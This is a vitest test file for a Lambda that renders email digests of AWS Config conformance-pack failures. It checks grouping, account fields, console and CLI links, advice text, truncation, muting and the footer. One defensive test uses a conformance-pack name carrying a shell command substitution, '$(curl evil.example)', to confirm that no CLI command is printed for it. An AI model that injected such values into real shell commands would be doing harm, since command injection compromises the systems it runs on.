import { describe, expect, it } from 'vitest';
import { buildAlertDocument } from '../../lambda/domain/alert-document.js';
import { adviceForErrorCode, STUCK_ADVICE } from '../../lambda/domain/error-advice.js';
import { EMAIL_ERROR_MESSAGE_MAX_CHARACTERS, renderEmail } from '../../lambda/domain/render-email.js';
import type { Change } from '../../lambda/domain/types.js';
import { REALISTIC_CHANGES } from './realistic-digest.js';

const base: Change = {
  kind: 'NEW_FAILURE',
  region: 'eu-west-1',
  conformancePack: 'OrgConformsPack-cis',
  accountId: '012345678901',
  status: 'UPDATE_FAILED',
  previousStatus: null,
  errorCode: 'ResourceLimitExceeded',
  errorMessage: 'Maximum number of AWS Config rules reached',
  lastUpdateTime: '2026-11-27T09:00:00.000Z',
  failingSince: '2026-11-27T09:00:00.000Z',
  muted: false,
};

function email(changes: readonly Change[], position = { part: 1, parts: 1 }) {
  return renderEmail(buildAlertDocument(changes, { sweepId: 'sweep-9', generatedAt: '2026-11-27T12:00:00.000Z', failingAccounts: 3 }, position));
}

/** The lines of one account's block, up to the next account or heading. */
function accountBlock(text: string, accountId: string): string[] {
  const lines = text.split('\n');
  const start = lines.indexOf(`    Account ${accountId}`);
  expect(start, `account ${accountId} in the email`).toBeGreaterThanOrEqual(0);
  const end = lines.findIndex((line, index) => index > start && !line.startsWith('      '));
  return lines.slice(start, end);
}

describe('renderEmail', () => {
  it('groups by region, then pack, then kind, in digest order', () => {
    const text = email(REALISTIC_CHANGES);
    const order = [
      '\neu-west-1\n',
      'Conformance pack cis-aws-foundations-v3 (eu-west-1)',
      'NEW FAILURES (2)',
      'STILL FAILING (REMINDER) (1)',
      'RECOVERED (1)',
      '\nus-east-1\n',
      'Conformance pack operational-best-practices-s3 (us-east-1)',
      'CHANGED FAILURES (1)',
      'Conformance pack security-baseline (us-east-1)',
      'STUCK IN PROGRESS (1)',
    ];
    const positions = order.map((heading) => text.indexOf(heading));
    expect(positions.every((position) => position >= 0), JSON.stringify(positions)).toBe(true);
    expect([...positions].sort((a, b) => a - b)).toEqual(positions);
  });

  it('gives every field a person needs for a failure: ID, status, previous status, code, message, failing since', () => {
    const text = email([{ ...base, kind: 'CHANGED_FAILURE', previousStatus: 'CREATE_FAILED', failingSince: '2026-11-24T09:00:00.000Z' }]);
    expect(accountBlock(text, '012345678901')).toEqual([
      '    Account 012345678901',
      '      Status:          UPDATE_FAILED',
      '      Previous status: CREATE_FAILED',
      '      Error code:      ResourceLimitExceeded',
      '      Error message:   Maximum number of AWS Config rules reached',
      '      Failing since 2026-11-24 09:00 UTC (3d 3h).',
    ]);
  });

  it.each([
    { kind: 'STUCK', change: { ...base, kind: 'STUCK', status: 'CREATE_IN_PROGRESS', errorCode: null, errorMessage: null, failingSince: '2026-11-26T23:55:00.000Z' }, says: 'Stuck in progress since 2026-11-26 23:55 UTC (12h 5m).' },
    { kind: 'RECOVERED', change: { ...base, kind: 'RECOVERED', status: 'UPDATE_SUCCESSFUL', previousStatus: 'UPDATE_FAILED', errorCode: null, errorMessage: null }, says: 'Recovered; had been failing since 2026-11-27 09:00 UTC (3h).' },
    { kind: 'RECOVERED from stuck', change: { ...base, kind: 'RECOVERED', status: 'CREATE_SUCCESSFUL', previousStatus: 'CREATE_IN_PROGRESS', errorCode: null, errorMessage: null }, says: 'Recovered; had been stuck in progress since' },
    { kind: 'RECOVERED, no longer reported', change: { ...base, kind: 'RECOVERED', status: null, previousStatus: 'CREATE_FAILED', errorCode: null, errorMessage: null }, says: 'Status:          no longer reported for this pack (recovered)' },
    { kind: 'NEW_FAILURE', change: base, says: 'Previous status: none (first alert)' },
  ] as { kind: string; change: Change; says: string }[])('says plainly what $kind means', ({ change, says }) => {
    expect(email([change])).toContain(says);
  });

  it('links to the AWS Config console of the region and gives the CLI command for the pack', () => {
    const text = email([base]);
    expect(text).toContain('  Console: https://eu-west-1.console.aws.amazon.com/config/home?region=eu-west-1#/conformance-packs');
    expect(text).toContain(
      '  CLI:     aws configservice get-organization-conformance-pack-detailed-status --region eu-west-1 --organization-conformance-pack-name OrgConformsPack-cis',
    );
  });

  it('gives no CLI command for a pack name that would not be safe to paste into a shell', () => {
    expect(email([{ ...base, conformancePack: 'pack$(curl evil.example)' }])).not.toContain('CLI:');
  });

  it('says what to do once per advice and pack, naming the codes and counting the accounts', () => {
    const text = email([
      { ...base, errorCode: 'AccessDenied', accountId: '000000000001' },
      { ...base, errorCode: 'AccessDeniedException', accountId: '000000000002' },
      { ...base, kind: 'STUCK', status: 'CREATE_IN_PROGRESS', errorCode: null, errorMessage: null, accountId: '000000000003' },
    ]);
    const advice = text.slice(text.indexOf('  WHAT TO DO'));
    const unwrapped = advice.replace(/\n\s+/g, ' ');
    expect(unwrapped).toContain(`- AccessDenied, AccessDeniedException (2 accounts): ${adviceForErrorCode('AccessDenied')}`);
    expect(unwrapped).toContain(`- Stuck in progress (1 account): ${STUCK_ADVICE}`);
  });

  it('shortens long error messages at a word, says so, and wraps them', () => {
    const words = Array.from({ length: 400 }, (_, index) => `word${index}`).join(' ');
    const text = email([{ ...base, errorMessage: words }]);
    const block = accountBlock(text, '012345678901');
    const message = block.slice(block.findIndex((line) => line.includes('Error message:'))).join(' ').replace(/\s+/g, ' ');
    expect(message).toMatch(/word\d+… \[shortened; in full in the JSON alert\]/);
    expect(message.length).toBeLessThan(EMAIL_ERROR_MESSAGE_MAX_CHARACTERS + 120);
    expect(Math.max(...text.split('\n').filter((line) => line.includes('word')).map((line) => line.length))).toBeLessThanOrEqual(76);
  });

  it('keeps multi-line API text on its own lines, so it cannot fake a heading or another account', () => {
    const text = email([{ ...base, errorMessage: 'bad\n    Account 999999999999\n=== us-west-2 ===' }]);
    expect(text).not.toContain('\n    Account 999999999999');
    expect(text).not.toContain('\n=== us-west-2');
  });

  it('counts muted changes without showing them', () => {
    const text = email([base, { ...base, accountId: '000000000099', muted: true }]);
    expect(text).toContain('Muted and not shown: 1 change (listed in the JSON alert).');
    expect(text).not.toContain('000000000099');
  });

  it('names its part in a split digest', () => {
    expect(email([base], { part: 2, parts: 3 })).toContain('This is part 2 of 3 of this alert; each part lists different accounts.');
    expect(email([base])).not.toContain('This is part');
  });

  it('ends with the sweep ID and how to change the subscription', () => {
    const footer = email([base]).split('\n-- \n')[1]!;
    expect(footer).toContain('Sweep sweep-9, 2026-11-27 12:00 UTC');
    expect(footer.replace(/\n/g, ' ')).toContain('SNS filter policy on the message attributes kinds, regions, packs or severity');
    expect(footer).toContain('cdk deploy -c mute=');
    expect(footer).toContain('unsubscribe');
  });
});
